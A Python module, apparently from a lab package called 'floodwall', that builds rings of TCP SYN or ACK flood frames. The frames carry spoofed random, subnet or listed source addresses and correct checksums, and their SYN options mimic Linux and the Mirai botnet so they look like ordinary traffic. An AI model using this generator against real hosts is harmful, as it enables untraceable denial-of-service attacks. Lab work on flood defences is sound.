"""The frames of a flood: one template, and rings of it with sources and checksums filled in.

Law: every checksum is right; a server that looks sees ordinary packets.
"""

import struct
from dataclasses import dataclass, replace
from ipaddress import ip_address

import numpy as np
from numpy.typing import NDArray

from floodwall.lab.addresses import Family
from floodwall.lab.flood import FIXED_SOURCES, Aim, Flood, Ports, Segment, Sources, Sweep

Bytes = NDArray[np.uint8]

ETHERNET = 14
_IP = {Family.IPV4: 20, Family.IPV6: 40}
_SOURCE_AT = {Family.IPV4: ETHERNET + 12, Family.IPV6: ETHERNET + 8}
_TCP_SYN = 0x02
_TCP_ACK = 0x10
# MSS 1460, SACK permitted, timestamps, NOP, window scale 7: what Linux sends, and Mirai copies.
_SYN_OPTIONS = bytes.fromhex("020405b4 0402 080a 00000001 00000000 01 030307")
_SEED = 20041122  # a fixed list of sources is the same in every run

# The bits of a random source.  128.0.0.0/2 and 2a00::/12 hold nothing of the lab and no address
# that a server may refuse (RFC 6890).
_BASE = {Family.IPV4: ip_address("128.0.0.0"), Family.IPV6: ip_address("2a00::")}
_SUBNET = {Family.IPV4: ip_address("133.7.42.0"), Family.IPV6: ip_address("2a00:7:42:1::")}
_SINGLE = {Family.IPV4: ip_address("133.7.42.7"), Family.IPV6: ip_address("2a00:7:42:1::7")}
_VARY_ALL = {Family.IPV4: (1 << 30) - 1, Family.IPV6: (1 << 96) - 1}
_VARY_SUBNET = {Family.IPV4: (1 << 8) - 1, Family.IPV6: (1 << 64) - 1}


@dataclass(frozen=True, slots=True)
class SourceRange:
    """A source address in 16 bytes (IPv4 in the last four) and the bits of it that vary."""

    base: bytes
    vary: bytes
    port: int
    vary_port: int


def source_range(flood: Flood) -> SourceRange:
    """Return the range that the sources of a flood are drawn from, unless they are listed."""
    family = flood.family
    if flood.sources is Sources.SINGLE:
        base, vary = int(_SINGLE[family]), 0
    elif flood.sources is Sources.SUBNET:
        base, vary = int(_SUBNET[family]), _VARY_SUBNET[family]
    else:
        base, vary = int(_BASE[family]), _VARY_ALL[family]
    free = flood.ports is Ports.RANDOM
    return SourceRange(
        base.to_bytes(16, "big"),
        vary.to_bytes(16, "big"),
        1024 if free else 3755,
        0xFBFF if free else 0,
    )


def fixed_sources(flood: Flood) -> list[tuple[bytes, int]]:
    """Return the listed sources of a flood: 16 bytes of address, and the fixed port."""
    random = np.random.default_rng(_SEED)
    if flood.sources is Sources.LISTED:
        drawn = [int(ip_address(text)) for text in flood.addresses]
    elif flood.sources is Sources.FIXED:
        span = source_range(flood)
        base, vary = int.from_bytes(span.base), int.from_bytes(span.vary)
        drawn = [int.from_bytes(random.bytes(16)) & vary | base for _ in range(flood.count)]
    else:
        return []
    ports = random.integers(1024, 65536, len(drawn))
    return [(at.to_bytes(16, "big"), int(port)) for at, port in zip(drawn, ports, strict=True)]


def template(flood: Flood, aim: Aim) -> bytes:
    """Return one frame with the source, its port, the numbers and the checksums left zero."""
    options = _SYN_OPTIONS if flood.options and flood.segment is Segment.SYN else b""
    flags = _TCP_SYN if flood.segment is Segment.SYN else _TCP_ACK
    length = 20 + len(options)
    tcp = struct.pack("!HHIIBBHHH", 0, aim.port, 0, 0, length // 4 << 4, flags, 64240, 0, 0)
    destination = ip_address(aim.address).packed
    if flood.family is Family.IPV4:
        whole = 20 + length
        header = struct.pack("!BBHHHBBH4x4s", 0x45, 0, whole, 0, 0x4000, 57, 6, 0, destination)
        kind = 0x0800
    else:
        header = struct.pack("!IHBB16x16s", 0x60000000, length, 6, 57, destination)
        kind = 0x86DD
    link = _mac(aim.mac) + _mac(aim.source_mac) + struct.pack("!H", kind)
    return link + header + tcp + options


def constant_sums(frame: bytes, family: Family) -> tuple[int, int]:
    """Return what a template adds to the checksums of its IPv4 header and of its segment.

    Sums of 16-bit words in the byte order of this machine: RFC 1071 allows any.
    """
    ip = frame[ETHERNET : ETHERNET + _IP[family]]
    segment = frame[ETHERNET + _IP[family] :]
    pseudo = struct.pack("!II", len(segment), 6)
    destination = ip[-4:] if family is Family.IPV4 else ip[-16:]
    return (_sum(ip) if family is Family.IPV4 else 0), _sum(destination + pseudo + segment)


def ring(flood: Flood, aim: Aim, count: int) -> Bytes:
    """Return `count` whole frames, one a row, in the order in which they are sent."""
    random = np.random.default_rng()
    frame = template(flood, replace(aim, port=0))
    rows = np.tile(np.frombuffer(frame, np.uint8), (count, 1))
    addresses, ports = _sources(flood, count, random)
    size = 4 if flood.family is Family.IPV4 else 16
    begin = _SOURCE_AT[flood.family]
    tcp = ETHERNET + _IP[flood.family]
    rows[:, begin : begin + size] = addresses[:, 16 - size :]
    rows[:, tcp : tcp + 2] = ports
    rows[:, tcp + 2 : tcp + 4] = _destinations(flood, aim, count)
    rows[:, tcp + 4 : tcp + 8] = random.integers(0, 256, (count, 4), np.uint8)
    if flood.segment is Segment.ACK:
        rows[:, tcp + 8 : tcp + 12] = random.integers(0, 256, (count, 4), np.uint8)
    ip_sum, tcp_sum = constant_sums(frame, flood.family)
    source = _row_sums(rows[:, begin : begin + size])
    varying = source + _row_sums(rows[:, tcp : tcp + 12])
    if flood.family is Family.IPV4:
        rows[:, ETHERNET + 10 : ETHERNET + 12] = _folded(source + ip_sum)
    rows[:, tcp + 16 : tcp + 18] = _folded(varying + tcp_sum)
    return rows


def _sources(flood: Flood, count: int, random: np.random.Generator) -> tuple[Bytes, Bytes]:
    """Return addresses (16 bytes) and ports (2 bytes, big-endian) of `count` frames."""
    span = source_range(flood)
    listed = fixed_sources(flood)
    draws = random.integers(0, 65536, count, np.uint16)
    ports = (draws & np.uint16(span.vary_port)) | np.uint16(span.port)
    if listed:
        known = np.array([list(address) for address, _ in listed], np.uint8)
        turn = np.arange(count) % len(listed)
        if flood.ports is Ports.FIXED:
            ports = np.array([port for _, port in listed], np.uint16)[turn]
        addresses = known[turn]
    else:
        noise = random.integers(0, 256, (count, 16), np.uint8)
        free, given = (np.frombuffer(bits, np.uint8) for bits in (span.vary, span.base))
        addresses = np.bitwise_or(np.bitwise_and(noise, free), given)
    return addresses, ports.astype(">u2").view(np.uint8).reshape(count, 2)


def _destinations(flood: Flood, aim: Aim, count: int) -> Bytes:
    """Return the destination ports (2 bytes, big-endian) of `count` frames."""
    sweep = flood.sweep or Sweep(aim.port, aim.port)
    ports = np.arange(count) % sweep.count + sweep.first
    return ports.astype(">u2").view(np.uint8).reshape(count, 2)


def _row_sums(columns: Bytes) -> NDArray[np.uint64]:
    words = np.ascontiguousarray(columns).view(np.uint16)
    sums: NDArray[np.uint64] = words.sum(axis=1, dtype=np.uint64)
    return sums


def _folded(sums: NDArray[np.uint64]) -> Bytes:
    for _ in range(3):
        sums = np.add(sums & np.uint64(0xFFFF), sums >> np.uint64(16))
    folded = np.bitwise_and(~sums, np.uint64(0xFFFF)).astype(np.uint16)
    return folded.view(np.uint8).reshape(len(folded), 2)


def _sum(data: bytes) -> int:
    return int(np.frombuffer(data, np.uint16).sum(dtype=np.uint64))


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


__all__ = [
    "FIXED_SOURCES",
    "SourceRange",
    "constant_sums",
    "fixed_sources",
    "ring",
    "source_range",
    "template",
]
